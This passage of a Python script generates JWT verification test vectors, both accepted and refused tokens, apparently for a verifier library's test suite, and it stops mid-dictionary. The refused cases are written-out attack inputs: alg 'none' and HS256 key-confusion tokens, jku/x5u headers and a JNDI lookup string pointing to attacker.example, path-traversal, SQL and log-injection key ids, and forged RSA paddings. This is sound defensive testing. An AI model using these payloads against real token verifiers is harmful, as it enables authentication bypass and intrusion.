"""Makes `jwt.json`: passports that must be accepted, and what must be refused and why.

    python vectors/make_jwt.py            write the file
    python vectors/make_jwt.py --check    exit 1 if the file is not what this would write

RS256 is deterministic and the keys are in `jwt-test-keys.json`, so every run makes the same bytes.
`reason` is the name of the error in `lime_jwt.errors`, `claim` the claim it names.
"""

from __future__ import annotations

import hashlib
import hmac
import json
import sys
from collections.abc import Iterator
from typing import Any

from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.asymmetric import padding
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat
from jwt_tools import (
    HERE,
    SHA256_PREFIX,
    Json,
    b64,
    by_hand,
    by_hmac,
    by_joserfc,
    by_pyjwt,
    compact,
    encoded_message,
    last_character_changed,
    padded,
    pss_signature,
    public_bytes,
    rsa,
    test_keys,
    uint,
)

TARGET = HERE / "jwt.json"
NOW = 1_800_000_000
ISSUER = "https://lime.example/office"
KEYS = test_keys()
MAIN, STRANGER = KEYS["main"], KEYS["stranger"]

MALFORMED = "MalformedTokenError"
HEADER = "UnsupportedHeaderError"
UNKNOWN_KEY = "UnknownKeyError"
SIGNATURE = "InvalidSignatureError"
CLAIM = "InvalidClaimError"
EXPIRED = "ExpiredTokenError"

AGENT, SITE, OTHER_SITE = "agent-7f3a", "site-51c2", "site-9999"
REQUEST, BINDING = "request-0b1e", "binding-44d0"
DOMAIN, RESOURCE = "mcp.example.com", "https://mcp.example.com/mcp"

AT_SITE = {"kind": "login", "site_id": SITE}
FOR_REQUEST = {"kind": "login", "request_id": REQUEST}
OF_BINDING = {"kind": "binding", "site_id": SITE}
FOR_DOMAIN = {"kind": "access", "domain": DOMAIN}
FOR_RESOURCE = {"kind": "access", "resource": RESOURCE}

TYP = {"login": "lime-passport+jwt", "binding": "lime-binding+jwt", "access": "at+jwt"}
DROP = object()


def changed(members: Json, changes: Json) -> Json:
    return {k: v for k, v in (members | changes).items() if v is not DROP}


def login(**changes: object) -> Json:
    claims = {
        "iss": ISSUER,
        "aud": "lime-site-login",
        "sub": AGENT,
        "iat": NOW,
        "exp": NOW + 60,
        "jti": "event-1",
        "request_id": REQUEST,
        "user_id": "owner-1",
        "passport_version": 1,
        "site_id": SITE,
        "azp": SITE,
        "kyc_level": 2,
    }
    return changed(claims, changes)


def binding(**changes: object) -> Json:
    claims = {
        "iss": ISSUER,
        "aud": "lime-binding",
        "sub": AGENT,
        "iat": NOW,
        "exp": NOW + 60,
        "jti": "event-2",
        "binding_id": BINDING,
        "user_id": "owner-1",
        "site_id": SITE,
    }
    return changed(claims, changes)


def access(**changes: object) -> Json:
    claims = {
        "iss": ISSUER,
        "aud": ["mcp", RESOURCE],
        "sub": AGENT,
        "iat": NOW,
        "exp": NOW + 300,
        "jti": "token-3",
        "domain": DOMAIN,
        "client_id": AGENT,
        "scope": "mcp",
    }
    return changed(claims, changes)


def header(kind: str = "login", **changes: object) -> Json:
    return changed({"alg": "RS256", "kid": MAIN.kid, "typ": TYP[kind]}, changes)


def signed(claims: Json, kind: str = "login", **head: object) -> str:
    return by_hand(MAIN, compact(header(kind, **head)), compact(claims))


def accepted(name: str, token: str, expect: Json, claims: Json, **other: object) -> Json:
    return {"name": name, "token": token, "expect": expect, "claims": claims} | other


def refused(
    name: str, token: str, reason: str, expect: Json = AT_SITE, claim: str = "", **other: object
) -> Json:
    case = {"name": name, "token": token, "expect": expect, "reason": reason} | other
    return case | ({"claim": claim} if claim else {})


def what_is_accepted() -> Iterator[Json]:
    claims = login()
    typed: Json = {"kid": MAIN.kid, "typ": TYP["login"]}
    yield accepted("made by PyJWT", by_pyjwt(MAIN, claims, typed), AT_SITE, claims)
    yield accepted("made by joserfc", by_joserfc(MAIN, claims, typed), AT_SITE, claims)
    good = signed(claims)
    yield accepted("bound by the site", good, AT_SITE, claims)
    yield accepted("bound by the request", good, FOR_REQUEST, claims)
    yield accepted("bound by both", good, AT_SITE | FOR_REQUEST, claims)
    for typ in (DROP, "JWT", "jwt", "Lime-Passport+JWT", "application/lime-passport+jwt"):
        name = f"typ is {'absent' if typ is DROP else typ}"
        yield accepted(name, signed(claims, typ=typ), AT_SITE, claims)
    unknown_header = signed(claims, cty="JWT", nonce="x")
    yield accepted("unknown header members are ignored", unknown_header, AT_SITE, claims)
    for name in ("next", "bits3072", "bits4096"):
        key = KEYS[name]
        token = by_hand(key, compact(header(kid=key.kid)), compact(claims))
        yield accepted(f"signed by the key {name}", token, AT_SITE, claims)
    variants: dict[str, Json] = {
        "iss differs in the case of scheme and host": {"iss": "HTTPS://Lime.Example/office"},
        "claims that nobody knows yet": {"new": {"list": [1, None, True, 0.5, "é"]}},
        "a long list": {"new": [0] * 5000},
        "nbf before 1970": {"nbf": -1},
        "only what is needed": dict.fromkeys(("user_id", "passport_version", "kyc_level"), DROP),
        "nbf is there": {"nbf": NOW},
        "nbf at the end of the leeway": {"nbf": NOW + 30},
        "iat at the end of the leeway": {"iat": NOW + 30, "exp": NOW + 90},
        "exp in the last second of the leeway": {"iat": NOW - 89, "exp": NOW - 29},
        "the longest life": {"exp": NOW + 120},
        "the shortest life": {"exp": NOW + 1},
    }
    for name, changes in variants.items():
        claims = login(**changes)
        yield accepted(name, signed(claims), AT_SITE, claims)
    escaped = compact(login()).replace(b'"sub"', rb'"\u0073ub"')
    token = by_hand(MAIN, compact(header()), escaped)
    yield accepted("a name written with an escape", token, AT_SITE, login())
    spaced = json.dumps(login(), indent=2).encode() + b"\n"
    token = by_hand(MAIN, compact(header()), spaced)
    yield accepted("white space in the JSON", token, AT_SITE, login())
    fill = "x" * (1024 - len(compact(header(x=""))))
    yield accepted("a header as long as allowed", signed(login(), x=fill), AT_SITE, login())
    claims = of_size(16 * 1024)
    yield accepted("as long as allowed", signed(claims), AT_SITE, claims)
    claims = binding()
    yield accepted("a binding", signed(claims, "binding"), OF_BINDING, claims)
    expect = OF_BINDING | {"binding_id": BINDING}
    yield accepted("a binding that was asked for", signed(claims, "binding"), expect, claims)
    claims = access()
    yield accepted("access by domain", signed(claims, "access"), FOR_DOMAIN, claims)
    yield accepted("access by resource", signed(claims, "access"), FOR_RESOURCE, claims)
    both = FOR_DOMAIN | FOR_RESOURCE
    yield accepted("access by both", signed(claims, "access"), both, claims)
    claims = access(aud="mcp")
    yield accepted("access without resource", signed(claims, "access"), FOR_DOMAIN, claims)


def of_size(size: int) -> Json:
    """Claims whose token has `size` bytes, or up to two less where base64url has no such length."""
    fill = (size - len(signed(login(fill="")))) * 3 // 4
    return next(
        claims
        for claims in (login(fill="x" * n) for n in range(fill + 3, 0, -1))
        if len(signed(claims)) <= size
    )


def wrong_form() -> Iterator[Json]:
    good = signed(login())
    head, claims, signature = good.split(".")
    for name, token in {
        "nothing": "",
        "no dot": "passport",
        "dots only": "..",
        "two segments": f"{head}.{claims}",
        "four segments": f"{good}.{signature}",
        "five segments, as of a JWE": f"{good}.{signature}.{signature}",
        "empty header": f".{claims}.{signature}",
        "empty claims": f"{head}..{signature}",
        "empty signature": f"{head}.{claims}.",
        "padding": f"{good}==",
        "padding in the claims": f"{head}.{claims}=.{signature}",
        "a space before": f" {good}",
        "a line end after": f"{good}\n",
        "a line end within": f"{head}.{claims[:9]}\n{claims[9:]}.{signature}",
        "the other base64 alphabet": f"{head}.{claims}.+/{signature[2:]}",
        "spare bits in the signature": f"{head}.{claims}.{last_character_changed(signature)}",
        "an impossible length": f"{head}.{claims}.{signature[:-1]}",
        "not ASCII": f"{head}.{claims}.é{signature[1:]}",
        "a NUL": f"{head}.{claims}.{signature[:-1]}\0",
        "an authorization header": f"Bearer {good}",
    }.items():
        yield refused(name, token, MALFORMED)
    # A signature over the very spelling that must be refused.
    for name, odd in {
        "spare bits in the header": (odd_tail(compact(header())), claims),
        "spare bits in the claims": (head, odd_tail(compact(login()))),
    }.items():
        text = ".".join(odd)
        yield refused(name, f"{text}.{b64(MAIN.signature(text.encode()))}", MALFORMED)
    one_more = of_size(16 * 1024)["fill"] + "xxx"
    yield refused("too long", signed(login(fill=one_more)), MALFORMED)


def odd_tail(json_text: bytes) -> str:
    """Base64url of this JSON, padded with white space until there are spare bits, which are set."""
    while len(json_text) % 3 == 0:
        json_text += b" "
    return last_character_changed(b64(json_text))


def wrong_json() -> Iterator[Json]:
    head, claims = compact(header()), compact(login())
    repeated = {
        "alg, twice the same": b'{"alg":"RS256",' + head[1:],
        "alg, none first": b'{"alg":"none",' + head[1:],
        "alg, none last": head[:-1] + b',"alg":"none"}',
        "kid": head[:-1] + b',"kid":"other"}',
        "a name with an escape": head[:-1] + rb',"\u0061lg":"RS256"}',
    }
    for name, odd in repeated.items():
        token = by_hand(MAIN, odd, claims)
        yield refused(f"the header repeats {name}", token, MALFORMED)
    repeated = {
        "sub": claims[:-1] + b',"sub":"agent-other"}',
        "exp": claims[:-1] + b',"exp":9999999999}',
        "site_id, twice the same": claims[:-1] + f',"site_id":"{SITE}"}}'.encode(),
        "a name with an escape": claims[:-1] + rb',"\u0073ub":"agent-other"}',
        "a name within a claim": claims[:-1] + b',"x":{"a":1,"a":2}}',
        "a name within a list": claims[:-1] + b',"x":[{"a":1,"a":2}]}',
    }
    for name, odd in repeated.items():
        token = by_hand(MAIN, head, odd)
        yield refused(f"the claims repeat {name}", token, MALFORMED)
    for name, odd in {
        "empty": b" ",
        "an array": b"[" + claims + b"]",
        "a string": b'"passport"',
        "null": b"null",
        "cut": claims[:-1],
        "followed by more": claims + b"{}",
        "followed by a NUL": claims + b"\0",
        "with a byte order mark": b"\xef\xbb\xbf" + claims,
        "not UTF-8": claims.replace(AGENT.encode(), b"agent-\xff"),
        "UTF-16": claims.decode().encode("utf-16"),
        "with an overlong NUL": claims.replace(AGENT.encode(), b"agent-\xc0\x80"),
        "with a lone surrogate": claims.replace(AGENT.encode(), rb"agent-\ud800"),
        "with a raw control character": claims.replace(AGENT.encode(), b"agent-\x01"),
        "with a comment": claims[:-1] + b"/* */}",
        "with a last comma": claims[:-1] + b",}",
        "with single quotes": claims.replace(b'"', b"'"),
        "nested too deeply": claims[:-1] + b',"x":' + b"[" * 8 + b"]" * 8 + b"}",
        "nested very deeply": claims[:-1] + b',"x":' + b"[" * 4000 + b"]" * 4000 + b"}",
        "nested very deeply, in objects": b'{"x":' * 1900 + b"1" + b"}" * 1900,
        "opened very often and never closed": b'{"x":' * 2200,
        "with too many members": compact({f"m{n}": n for n in range(129)}),
        "with a number of 5,000 digits": claims[:-1] + b',"x":' + b"9" * 5000 + b"}",
        "with an exponent of 5,000 digits": claims[:-1] + b',"x":1e' + b"9" * 5000 + b"}",
    }.items():
        yield refused(f"the claims are {name}", by_hand(MAIN, head, odd), MALFORMED)
    for name, odd in {
        "an array": b"[" + head + b"]",
        "cut": head[:-1],
        "followed by more": head + b" {}",
        "not UTF-8": head.replace(b"RS256", b"RS\xff"),
        "nested too deeply": head[:-1] + b',"x":' + b"[" * 8 + b"]" * 8 + b"}",
        "nested very deeply": head[:-1] + b',"x":' + b"[" * 4000 + b"]" * 4000 + b"}",
        "with too many members": compact(header() | {f"m{n}": n for n in range(126)}),
        "too long": compact(header(x="x" * (1025 - len(compact(header(x="")))))),
        "of very many empty objects": head[:-1] + b',"x":[' + b"{}," * 3800 + b"{}]}",
    }.items():
        yield refused(f"the header is {name}", by_hand(MAIN, odd, claims), MALFORMED)


def wrong_header() -> Iterator[Json]:
    claims = login()
    body = compact(claims)
    for alg in ("none", "None", "NONE", "", "HS256", "RS384", "RS512", "PS256", "ES256", "EdDSA"):
        yield refused(f"alg is {alg!r}", signed(claims, alg=alg), HEADER)
    for alg in ("nOnE", " RS256", "RS256 ", "RS256\0", "RS256,none", "RS2560", "RS1", "ES256K"):
        yield refused(f"alg is {alg!r}", signed(claims, alg=alg), HEADER)
    odd = {"absent": DROP, "null": None, "a list": ["RS256"], "in small letters": "rs256"}
    for name, value in odd.items():
        yield refused(f"alg is {name}", signed(claims, alg=value), HEADER)
    unsigned = f"{b64(compact(header(alg='none')))}.{b64(body)}"
    yield refused("alg none with an empty signature", f"{unsigned}.", MALFORMED)
    yield refused("alg none with some signature", f"{unsigned}.AAAA", HEADER)
    hs256 = compact(header(alg="HS256"))
    for name, secret in {
        "PEM": public_bytes(MAIN, Encoding.PEM, PublicFormat.SubjectPublicKeyInfo),
        "DER": public_bytes(MAIN, Encoding.DER, PublicFormat.SubjectPublicKeyInfo),
        "PKCS#1 PEM": public_bytes(MAIN, Encoding.PEM, PublicFormat.PKCS1),
        "modulus": MAIN.n.to_bytes(256, "big"),
        "JWK": compact(MAIN.jwk()),
        "nothing": b"",
    }.items():
        yield refused(f"HS256 with the public key as {name}", by_hmac(secret, hs256, body), HEADER)
    symmetric = {"kty": "oct", "kid": "oct", "k": b64(b"published"), "alg": "HS256"}
    token = by_hmac(b"published", compact(header(alg="HS256", kid="oct")), body)
    yield refused("HS256 with a published secret", token, HEADER, jwks={"keys": [symmetric]})
    stranger: Json = STRANGER.jwk()
    variants: dict[str, Json] = {
        "kid is absent": {"kid": DROP},
        "kid is null": {"kid": None},
        "kid is a number": {"kid": 1},
        "kid is a bool": {"kid": True},
        "kid is a list": {"kid": [MAIN.kid]},
        "kid is an object": {"kid": {"kid": MAIN.kid}},
        "kid is empty": {"kid": ""},
        "kid is longer than any": {"kid": "k" * 257},
        "crit names exp": {"crit": ["exp"], "exp": NOW},
        "crit is empty": {"crit": []},
        "crit is null": {"crit": None},
        "crit with b64": {"crit": ["b64"], "b64": False},
        "b64 is false": {"b64": False},
        "b64 is true": {"b64": True},
        "an embedded jwk": {"jwk": stranger},
        "jku": {"jku": "https://attacker.example/jwks.json"},
        "jku of the issuer": {"jku": f"{ISSUER}/jwks.json"},
        "x5u": {"x5u": "https://attacker.example/cert.pem"},
        "x5c": {"x5c": ["MIIB"]},
        "x5t": {"x5t": "AAAA"},
        "x5t#S256": {"x5t#S256": "AAAA"},
        "typ of a binding": {"typ": TYP["binding"]},
        "typ of an access token": {"typ": TYP["access"]},
        "typ of an access token, in full": {"typ": "application/at+jwt"},
        "typ of something else": {"typ": "JOSE"},
        "typ is empty": {"typ": ""},
        "typ is a number": {"typ": 1},
        "typ is null": {"typ": None},
    }
    for name, changes in variants.items():
        yield refused(name, signed(claims, **changes), HEADER)
    embedded = compact(header(kid=STRANGER.kid, jwk=stranger))
    yield refused("signed by the key it brings", by_hand(STRANGER, embedded, body), HEADER)


def wrong_key() -> Iterator[Json]:
    body = compact(login())
    for kid in (
        STRANGER.kid,
        "../../etc/passwd",
        "' OR 1=1 --",
        "k" * 256,
        "\u0000",
        "é",
        "\u202e",
        "key\r\nINFO passport accepted",
        "https://attacker.example/key.pem",
        "${jndi:ldap://attacker.example/a}",
        "__proto__",
        MAIN.kid[:-1],
        MAIN.kid.lower(),
        f"{MAIN.kid} ",
    ):
        token = by_hand(STRANGER, compact(header(kid=kid)), body)
        yield refused(f"kid is {kid[:50]!r}", token, UNKNOWN_KEY, kid=kid)
    head = f"{b64(compact(header()))}.{b64(body)}"
    data = head.encode()
    good = MAIN.signature(data)
    private = MAIN.private
    for name, signature in {
        "of another key": STRANGER.signature(data),
        "of another text": MAIN.signature(data + b" "),
        "of the published next key": KEYS["next"].signature(data),
        "in PSS": pss_signature(MAIN, data),
        "over SHA-384": private.sign(data, padding.PKCS1v15(), hashes.SHA384()),
        "of one byte": b"\x01",
        "of zeros": bytes(256),
        "of ones": b"\xff" * 256,
        "that is the modulus": MAIN.n.to_bytes(256, "big"),
        "cut": good[:-1],
        "that is its HMAC": hmac.digest(MAIN.n.to_bytes(256, "big"), data, "sha256"),
        "with a zero before": b"\0" + good,
        "with a zero after": good + b"\0",
        "with a bit flipped": bytes([good[0] ^ 1]) + good[1:],
        "that is the padded digest": encoded_message(data, 256),
    }.items():
        yield refused(f"a signature {name}", f"{head}.{b64(signature)}", SIGNATURE)
    yield from odd_padding(data)
    grown = login_with_small_signature()
    token = f"{grown.rpartition('.')[0]}.{b64(grown_signature(grown))}"
    yield refused("a signature to which the modulus was added", token, SIGNATURE)
    theirs = {"keys": [STRANGER.jwk(kid=MAIN.kid)]}
    yield refused("another issuer's key of the same id", signed(login()), SIGNATURE, jwks=theirs)
    other = b64(compact(login(site_id=OTHER_SITE)))
    moved = f"{head.split('.', maxsplit=1)[0]}.{other}.{b64(good)}"
    yield refused("other claims under a good signature", moved, SIGNATURE, AT_SITE)
    yield from weak_keys(body)


def odd_padding(data: bytes) -> Iterator[Json]:
    """What the key signed is not the one encoding of RFC 8017 section 9.2, only like it."""
    digest = hashlib.sha256(data).digest()
    info = SHA256_PREFIX + digest
    good = encoded_message(data, 256)
    for name, encoded in {
        "without the NULL": padded(
            bytes.fromhex("302f300b0609608648016503040201") + info[17:], 256
        ),
        "with a long form of a length": padded(b"\x30\x81\x31" + info[2:], 256),
        "with an indefinite length": padded(b"\x30\x80" + info[2:] + b"\0\0", 256),
        # Bleichenbacher's of 2006: with the exponent 3 such a signature needs no private key.
        "with bytes behind the digest": padded(info, 64) + b"\xff" * 192,
        "with bytes in its parameters": padded(
            bytes.fromhex("3039301506096086480165030402010508") + b"\xff" * 8 + info[17:], 256
        ),
        "with a short padding": good[:2] + good[9:] + bytes(7),
        "with another byte in its padding": good[:9] + b"\xfe" + good[10:],
        "with a zero in its padding": good[:9] + b"\x00" + good[10:],
        "without a zero behind its padding": good[:204] + b"\xff" + good[205:],
        "of block type 0": bytes(205) + info,
        "of block type 2": b"\0\2" + good[2:],
        "without a DigestInfo": padded(digest, 256),
        "in the name of SHA-512": padded(info[:14] + b"\3" + info[15:], 256),
        "of a shorter digest": padded(b"\x30\x30" + info[2:18] + b"\x1f" + info[19:-1], 256),
    }.items():
        assert len(encoded) == 256, name
        signature = rsa(encoded, MAIN.numbers.d, MAIN.n)
        token = f"{data.decode()}.{b64(signature)}"
        yield refused(f"a signature over a padding {name}", token, SIGNATURE)


def login_with_small_signature() -> str:
    """A good token whose signature, as a number, leaves room for the modulus in 256 bytes."""
    tokens = (signed(login(jti=f"event-{number}")) for number in range(100))
    return next(token for token in tokens if grown_signature(token))


def grown_signature(token: str) -> bytes:
    """The signature of `token` and the modulus: the same for arithmetic. Empty if too long."""
    grown = int.from_bytes(MAIN.signature(token.rpartition(".")[0].encode()), "big") + MAIN.n
    return grown.to_bytes(256, "big") if grown.bit_length() <= 2048 else b""


def weak_keys(body: bytes) -> Iterator[Json]:
    """A good signature by a key that must never have been believed."""
    for name in ("bits1024", "exponent3"):
        key = KEYS[name]
        head = f"{b64(compact(header(kid=name)))}.{b64(body)}"
        token = f"{head}.{b64(key.integer_signature(head.encode()))}"
        jwks = {"keys": [key.jwk(kid=name)]}
        yield refused(f"a weak key: {name}", token, UNKNOWN_KEY, jwks=jwks, kid=name)
    head = f"{b64(compact(header(kid='one')))}.{b64(body)}"
    # With the exponent 1 everybody can sign: the signature is the padded digest itself.
    token = f"{head}.{b64(encoded_message(head.encode(), 256))}"
    jwks = {"keys": [MAIN.jwk(kid="one", e=uint(1))]}
    yield refused("a weak key: exponent 1", token, UNKNOWN_KEY, jwks=jwks, kid="one")
    # Twice a good modulus: the arithmetic still works, and one factor is known to everybody.
    phi = (MAIN.numbers.p - 1) * (MAIN.numbers.q - 1)
    for name, n, e in (
        ("an even modulus", 2 * MAIN.n, 65537),
        ("an exponent of 17 bits less one", MAIN.n, 65521),
        ("an exponent of 33 bits", MAIN.n, 2**32 + 15),
    ):
        head = f"{b64(compact(header(kid='odd')))}.{b64(body)}"
        encoded = encoded_message(head.encode(), (n.bit_length() + 7) // 8)
        signature = rsa(encoded, pow(e, -1, phi), n)
        assert rsa(signature, e, n) == encoded
        jwks = {"keys": [MAIN.jwk(kid="odd", n=uint(n), e=uint(e))]}
        token = f"{head}.{b64(signature)}"
        yield refused(f"a weak key: {name}", token, UNKNOWN_KEY, jwks=jwks, kid="odd")
    token = signed(login())
    unusable: dict[str, Json] = {
        "whose private half is published": {"d": uint(MAIN.numbers.d)},
        "for encryption": {"use": "enc"},
        "for RS512": {"alg": "RS512"},
        "for signing only": {"key_ops": ["sign"]},
        "of another kind": {"kty": "RSA-OAEP"},
    }
    for name, members in unusable.items():
        jwks = {"keys": [MAIN.jwk(**members)]}
        yield refused(f"a key {name}", token, UNKNOWN_KEY, jwks=jwks, kid=MAIN.kid)
    # Two keys of one id: whichever a verifier took, the other issuer's view would be another.
    jwks = {"keys": [MAIN.jwk(), STRANGER.jwk(kid=MAIN.kid)]}
    yield refused("an ambiguous key id", token, UNKNOWN_KEY, jwks=jwks, kid=MAIN.kid)


def wrong_issuer_or_audience() -> Iterator[Json]:
    for name, iss in {
        "absent": DROP,
        "null": None,
        "empty": "",
        "a list": [ISSUER],
        "another": "https://other.example/office",
        "a prefix": "https://lime.example",
        "longer": f"{ISSUER}s",
        "with a slash": f"{ISSUER}/",
        "in another case": "https://lime.example/Office",
        "by another scheme": "http://lime.example/office",
        "with the default port": "https://lime.example:443/office",
        "a longer host": "https://lime.example.attacker.example/office",
        "with user information": "https://lime.example@attacker.example/office",
        "percent-encoded": "https://lime.example/%6fffice",
        "with a space": f"{ISSUER} ",
    }.items():
        yield refused(f"iss is {name}", signed(login(iss=iss)), CLAIM, claim="iss")
    for name, aud in {
        "absent": DROP,
        "null": None,
        "a number": 1,
        "empty": "",
        "in capitals": "LIME-SITE-LOGIN",
        "in a list": ["lime-site-login"],
        "in a list with more": ["lime-site-login", "mcp"],
        "in an object": {"aud": "lime-site-login"},
        "of a binding": "lime-binding",
        "of an access token": "mcp",
    }.items():
        yield refused(f"aud is {name}", signed(login(aud=aud)), CLAIM, claim="aud")
    for name, aud in {
        "absent": DROP,
        "of a login": "lime-site-login",
        "in capitals": "MCP",
        "in a list alone": ["mcp"],
        "an empty list": [],
        "in the other order": [RESOURCE, "mcp"],
        "with two resources": ["mcp", RESOURCE, RESOURCE],
        "with a number": ["mcp", 1],
        "with an empty resource": ["mcp", ""],
        "with a list": ["mcp", [RESOURCE]],
        "the resource alone": RESOURCE,
    }.items():
        token = signed(access(aud=aud), "access")
        yield refused(f"aud of access is {name}", token, CLAIM, FOR_DOMAIN, claim="aud")
    for name, aud in {
        "another resource": ["mcp", "https://mcp.example.com/other"],
        "a prefix of the resource": ["mcp", "https://mcp.example.com"],
        "no resource": "mcp",
    }.items():
        token = signed(access(aud=aud), "access")
        yield refused(f"aud names {name}", token, CLAIM, FOR_RESOURCE, claim="aud")


def wrong_times() -> Iterator[Json]:
    head = compact(header())
    for claim in ("exp", "iat", "nbf"):
        value = NOW + 60 if claim == "exp" else NOW
        for name, text in {
            "a bool": "true",
            "another bool": "false",
            "an object": "{}",
            "empty text": '""',
            "1e0": "1e0",
            "a float": f"{value}.0",
            "a float with an exponent": "1.8e9",
            "a string": f'"{value}"',
            "null": "null",
            "a list": f"[{value}]",
            "2^63": str(2**63),
            "2^64": str(2**64),
            "-2^63 - 1": str(-(2**63) - 1),
            "minus zero": "-0",
        }.items():
            body = compact(login(**{claim: "HERE"})).replace(b'"HERE"', text.encode())
            token = by_hand(MAIN, head, body)
            yield refused(f"{claim} is {name}", token, CLAIM, claim=claim)
        for text in ("NaN", "-NaN", "Infinity", "-Infinity", "1e999", "0x10", "01", "+1", "1."):
            body = compact(login(**{claim: "HERE"})).replace(b'"HERE"', text.encode())
            yield refused(f"{claim} is {text}", by_hand(MAIN, head, body), MALFORMED)
    for claim in ("exp", "iat"):
        yield refused(f"{claim} is absent", signed(login(**{claim: DROP})), CLAIM, claim=claim)
    low, high = -(2**63), 2**63 - 1
    for name, claim, claims in (
        ("iat in the future", "iat", login(iat=NOW + 31, exp=NOW + 91)),
        ("iat ten years ahead", "iat", login(iat=NOW + 315_360_000, exp=NOW + 315_360_060)),
        ("nbf in the future", "nbf", login(nbf=NOW + 31)),
        ("nbf far in the future", "nbf", login(nbf=high)),
        ("a life too long", "exp", login(exp=NOW + 121)),
        ("a life without end", "exp", login(exp=high)),
        ("a life that overflows", "exp", login(iat=low, exp=high)),
        ("a negative exp", "exp", login(exp=-1)),
        ("a negative iat", "exp", login(iat=-1)),
        ("iat and exp one second apart at the end of time", "iat", login(iat=high - 1, exp=high)),
        ("no life", "exp", login(exp=NOW)),
        ("a life backwards", "exp", login(exp=NOW - 1)),
        ("a life backwards that overflows", "iat", login(iat=high, exp=low)),
    ):
        yield refused(name, signed(claims), CLAIM, claim=claim)
    for name, claims in {
        "expired": login(iat=NOW - 90, exp=NOW - 30),
        "expired long ago": login(iat=0, exp=60),
        "expired before 1970": login(iat=-100, exp=-40),
    }.items():
        yield refused(name, signed(claims), EXPIRED, claim="exp")
    late = signed(login(iat=NOW - 59, exp=NOW + 1))
    strict = AT_SITE | {"leeway": 0}
    yield accepted("without leeway, in time", late, strict, login(iat=NOW - 59, exp=NOW + 1))
    yield refused("without leeway, in its last second", late, EXPIRED, strict, "exp", now=NOW + 1)
    early = signed(login(iat=NOW + 1, exp=NOW + 61))
    yield refused("without leeway, too early", early, CLAIM, strict, "iat")
    token = signed(binding(exp=NOW + 61), "binding")
    yield refused("a binding's life too long", token, CLAIM, OF_BINDING, "exp")
    token = signed(access(exp=NOW + 301), "access")
    yield refused("an access token's life too long", token, CLAIM, FOR_DOMAIN, "exp")


def wrong_identity_or_binding() -> Iterator[Json]:
    for claim in ("sub", "jti"):
        for name, value in {
            "absent": DROP,
            "empty": "",
            "null": None,
            "a number": 7,
            "a list": ["x"],
        }.items():
            token = signed(login(**{claim: value}))
            yield refused(f"{claim} is {name}", token, CLAIM, claim=claim)
    stands_in = login(sub=DROP, agent_id=AGENT)
    yield refused("agent_id instead of sub", signed(stands_in), CLAIM, claim="sub")
    for expect, claim, good in (
        (AT_SITE, "site_id", SITE),
        (FOR_REQUEST, "request_id", REQUEST),
        (AT_SITE | FOR_REQUEST, "site_id", SITE),
        (AT_SITE | FOR_REQUEST, "request_id", REQUEST),
    ):
        by = " and ".join(sorted(expect)[1:])
        for name, value in {
            "absent": DROP,
            "another": "other",
            "null": None,
            "empty": "",
            "in capitals": good.upper(),
            "longer": good + " ",
            "in a list": [good],
        }.items():
            token = signed(login(**{claim: value}))
            yield refused(f"bound by {by}: {claim} is {name}", token, CLAIM, expect, claim)
    by_azp = signed(login(site_id=DROP))
    yield refused("azp instead of site_id", by_azp, CLAIM, claim="site_id")
    token = signed(binding(site_id=OTHER_SITE), "binding")
    yield refused("a binding at another site", token, CLAIM, OF_BINDING, "site_id")
    token = signed(binding(binding_id="binding-x"), "binding")
    expect = OF_BINDING | {"binding_id": BINDING}
    yield refused("another binding", token, CLAIM, expect, "binding_id")
    for domain in (DROP, "other.example.com", "example.com", "MCP.example.com", [DOMAIN]):
        name = "absent" if domain is DROP else str(domain)
        token = signed(access(domain=domain), "access")
        yield refused(f"domain is {name}", token, CLAIM, FOR_DOMAIN, "domain")
    for claim in ("user_id", "passport_version", "request_id"):
        for value in ("x", None):
            token = signed(access(**{claim: value}), "access")
            yield refused(f"access with {claim} = {value}", token, CLAIM, FOR_DOMAIN, claim)


def confused_kinds() -> Iterator[Json]:
    """One kind's token at another kind's verifier, with and without a `typ` that tells."""
    makers = {"login": login, "binding": binding, "access": access}
    expects = {"login": AT_SITE, "binding": OF_BINDING, "access": FOR_DOMAIN}
    for kind, make in makers.items():
        for other, expect in expects.items():
            if kind == other:
                continue
            claims = make(site_id=SITE, domain=DOMAIN)
            name = f"a token of kind {kind} as {other}"
            yield refused(name, signed(claims, kind), HEADER, expect)
            untyped = signed(claims, kind, typ=DROP)
            yield refused(f"{name}, without typ", untyped, CLAIM, expect, "aud")


def key_sets() -> Iterator[Json]:
    """Documents and the ids that are usable in them, or the reason why they are none."""
    good = MAIN.jwk()
    n = MAIN.n
    made_up = int.from_bytes(hashlib.shake_256(b"a made-up modulus").digest(1025), "big")

    def of_bits(bits: int) -> str:
        """An odd number of exactly this many bits. Nobody knows its factors."""
        return uint(made_up % 2 ** (bits - 1) | 1 << (bits - 1) | 1)

    usable: dict[str, Json] = {
        "as published": {},
        "without alg and use": {"alg": None, "use": None},
        "with key_ops": {"key_ops": ["verify"], "use": None},
        "with members that nobody knows": {"x5t": "AAAA", "new": {"a": [1]}},
        "with the largest exponent": {"e": uint(2**32 - 1)},
        "with 2048 bits": {"n": of_bits(2048)},
        "with 4096 bits": {"n": of_bits(4096)},
        "with a long id": {"kid": "k" * 256},
    }
    for name, changes in usable.items():
        jwk = MAIN.jwk(**changes)
        yield {"name": name, "document": {"keys": [jwk]}, "kids": [jwk["kid"]]}
    e = MAIN.jwk()["e"]
    unusable: dict[str, Any] = {
        "of another kind": {"kty": "EC"},
        "of a kind in small letters": {"kty": "rsa"},
        "without a kind": {"kty": None},
        "for another algorithm": {"alg": "RS512"},
        "for a list of algorithms": {"alg": ["RS256"]},
        "for encryption": {"use": "enc"},
        "for signing only": {"key_ops": ["sign"]},
        "for operations that are no list": {"key_ops": "verify"},
        "without id": {"kid": None},
        "with an empty id": {"kid": ""},
        "with a number for an id": {"kid": 1},
        "with an id too long": {"kid": "k" * 257},
        "without a modulus": {"n": None},
        "without an exponent": {"e": None},
        "with an empty modulus": {"n": ""},
        "with a number for a modulus": {"n": 65537},
        "with a padded modulus": {"n": good["n"] + "=="},
        "with a modulus in the other alphabet": {"n": "+/" + good["n"][2:]},
        "with a leading zero in the modulus": {"n": b64(b"\0" + n.to_bytes(256, "big"))},
        "with a leading zero in the exponent": {"e": b64(b"\0\1\0\1")},
        "with spare bits in the modulus": {"n": last_character_changed(good["n"])},
        "with 1024 bits": {"n": uint(KEYS["bits1024"].n)},
        "with 2047 bits": {"n": of_bits(2047)},
        "with 4097 bits": {"n": of_bits(4097)},
        "with 8192 bits": {"n": of_bits(8192)},
        "with an even modulus": {"n": uint(n - 1)},
